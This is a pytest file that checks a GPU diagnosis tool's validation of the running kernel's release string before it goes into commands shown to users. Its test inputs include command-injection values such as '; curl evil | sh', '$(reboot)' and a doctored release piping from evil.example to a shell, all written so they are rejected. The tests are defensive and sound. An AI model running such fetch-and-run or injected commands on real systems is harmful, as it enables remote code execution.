"""The running kernel's release goes into commands shown to the user: only a real release shape is used."""

from __future__ import annotations

import json

import pytest

from rocmdesk.diagnosis.context import DiagnosisContext
from rocmdesk.diagnosis.engine import run_checks
from rocmdesk.diagnosis.etc_parsers import kernel_release_of
from rocmdesk.diagnosis.facts import HostFacts
from rocmdesk.host import HostRoot, RecordedRunner
from tests.support import scenarios as sc


@pytest.mark.parametrize("text,want", [
    ("6.8.0-51-generic\n", "6.8.0-51-generic"),
    ("6.10.3-arch1-1", "6.10.3-arch1-1"),
    ("6.6.0+rpt-rpi-v8\n", "6.6.0+rpt-rpi-v8"),
    ("6.12.0-0.rc7.20241115git.fc42.x86_64", "6.12.0-0.rc7.20241115git.fc42.x86_64"),
    ("", None), (None, None), ("   \n", None),
    ("6.8.0; curl evil | sh", None), ("$(reboot)", None), ("6.8.0 `id`", None), ("-k all", None),
    ("6.8.0\n6.9.0", None), ("x" * 200, None),
])
def test_kernel_release_shape(text, want):
    assert kernel_release_of(text) == want


def test_a_doctored_release_never_reaches_a_command(tmp_path):
    root = sc.clean_workstation(tmp_path / "root")
    sc.blacklist_amdgpu(root)  # its fix rebuilds the initramfs for the running kernel
    (root / "proc/sys/kernel/osrelease").write_text("6.8.0-51-generic; curl evil.example | sh\n")
    ctx = DiagnosisContext(HostRoot(root), runner=RecordedRunner())
    assert ctx.kernel_release is None
    assert HostFacts(HostRoot(root), RecordedRunner()).kernel_release is None
    results = run_checks(ctx)
    text = json.dumps([f.to_json() if hasattr(f, "to_json") else repr(f) for r in results for f in r.findings])
    assert "evil.example" not in text
